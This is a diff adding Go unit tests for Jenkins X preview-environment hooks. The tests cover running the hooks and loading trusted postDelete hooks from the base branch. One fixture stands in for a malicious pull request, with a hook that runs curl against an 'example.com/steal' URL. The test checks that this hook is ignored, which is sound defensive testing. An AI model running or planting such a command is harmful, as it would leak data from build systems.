@@ -0,0 +1,131 @@
+// +build unit
+
+package preview_test
+
+import (
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"testing"
+
+	v1 "github.com/jenkins-x/jx/v2/pkg/apis/jenkins.io/v1"
+	"github.com/jenkins-x/jx/v2/pkg/cmd/preview"
+	"github.com/jenkins-x/jx/v2/pkg/gits"
+	"github.com/jenkins-x/jx/v2/pkg/kube"
+	"github.com/jenkins-x/jx/v2/pkg/util"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+)
+
+func TestPreviewHooks(t *testing.T) {
+	t.Parallel()
+
+	dir, err := ioutil.TempDir("", "test-preview-hooks-")
+	require.NoError(t, err)
+	defer os.RemoveAll(dir)
+
+	hooks, err := preview.LoadPreviewHooks(dir)
+	require.NoError(t, err)
+	assert.Nil(t, hooks, "should have no hooks without a hooks file")
+
+	deletedFile := filepath.Join(dir, "deleted.txt")
+	text := `preCreate:
+- name: database
+  command: sh
+  args:
+  - -c
+  - 'printf "database:\n  name: $PREVIEW_NAMESPACE\n  host: $DB_HOST\n" > $PREVIEW_HOOK_OUTPUT'
+  env:
+    DB_HOST: postgres.dev
+- name: queue
+  command: sh
+  args:
+  - -c
+  - 'echo "queue: $PREVIEW_RELEASE" > $PREVIEW_HOOK_OUTPUT'
+postDelete:
+- name: fails
+  command: "false"
+- name: database
+  command: sh
+  args:
+  - -c
+  - 'echo $PREVIEW_NAMESPACE > ` + deletedFile + `'
+`
+	require.NoError(t, ioutil.WriteFile(filepath.Join(dir, preview.PreviewHooksFileName), []byte(text), util.DefaultFileWritePermissions))
+
+	hooks, err = preview.LoadPreviewHooks(dir)
+	require.NoError(t, err)
+	require.NotNil(t, hooks)
+	assert.Len(t, hooks.PreCreate, 2)
+	assert.Len(t, hooks.PostDelete, 2)
+
+	env := &v1.Environment{
+		ObjectMeta: metav1.ObjectMeta{
+			Name:        "myorg-myrepo-pr-1",
+			Annotations: map[string]string{kube.AnnotationReleaseName: "myorg-myrepo-pr-1-release"},
+		},
+		Spec: v1.EnvironmentSpec{
+			Namespace: "jx-myorg-myrepo-pr-1",
+			Kind:      v1.EnvironmentKindTypePreview,
+		},
+	}
+
+	values, err := preview.RunPreCreateHooks(hooks, env, dir)
+	require.NoError(t, err)
+	assert.Equal(t, map[string]interface{}{
+		"database": map[string]interface{}{
+			"name": "jx-myorg-myrepo-pr-1",
+			"host": "postgres.dev",
+		},
+		"queue": "myorg-myrepo-pr-1-release",
+	}, values)
+
+	err = preview.RunPostDeleteHooks(hooks, env)
+	assert.Error(t, err, "should report the failed hook")
+	data, err := ioutil.ReadFile(deletedFile)
+	require.NoError(t, err, "should run the remaining hooks after a failure")
+	assert.Equal(t, "jx-myorg-myrepo-pr-1\n", string(data))
+}
+
+func TestLoadTrustedPostDeleteHooksFromBaseBranch(t *testing.T) {
+	t.Parallel()
+
+	dir, err := ioutil.TempDir("", "test-preview-hooks-")
+	require.NoError(t, err)
+	defer os.RemoveAll(dir)
+
+	gitter := gits.NewGitCLI()
+	upstreamDir := filepath.Join(dir, "upstream")
+	chartDir := filepath.Join(upstreamDir, "charts", "preview")
+	require.NoError(t, os.MkdirAll(chartDir, util.DefaultWritePermissions))
+	require.NoError(t, gitter.Init(upstreamDir))
+	text := `postDelete:
+- name: database
+  command: drop-database
+`
+	require.NoError(t, ioutil.WriteFile(filepath.Join(chartDir, preview.PreviewHooksFileName), []byte(text), util.DefaultFileWritePermissions))
+	require.NoError(t, gitter.Add(upstreamDir, "."))
+	require.NoError(t, gitter.CommitDir(upstreamDir, "initial"))
+	baseBranch, err := gitter.Branch(upstreamDir)
+	require.NoError(t, err)
+
+	cloneDir := filepath.Join(dir, "clone")
+	require.NoError(t, gitter.Clone(upstreamDir, cloneDir))
+	prChartDir := filepath.Join(cloneDir, "charts", "preview")
+	text = `postDelete:
+- name: database
+  command: curl
+  args:
+  - https://example.com/steal
+`
+	require.NoError(t, ioutil.WriteFile(filepath.Join(prChartDir, preview.PreviewHooksFileName), []byte(text), util.DefaultFileWritePermissions))
+
+	hooks, err := preview.LoadTrustedPostDeleteHooks(gitter, prChartDir, baseBranch)
+	require.NoError(t, err)
+	assert.Equal(t, []preview.PreviewHook{{Name: "database", Command: "drop-database"}}, hooks, "should load the hooks of the base branch")
+
+	hooks, err = preview.LoadTrustedPostDeleteHooks(gitter, filepath.Join(cloneDir, "charts"), baseBranch)
+	require.NoError(t, err)
+	assert.Empty(t, hooks, "should have no hooks without a hooks file on the base branch")
+}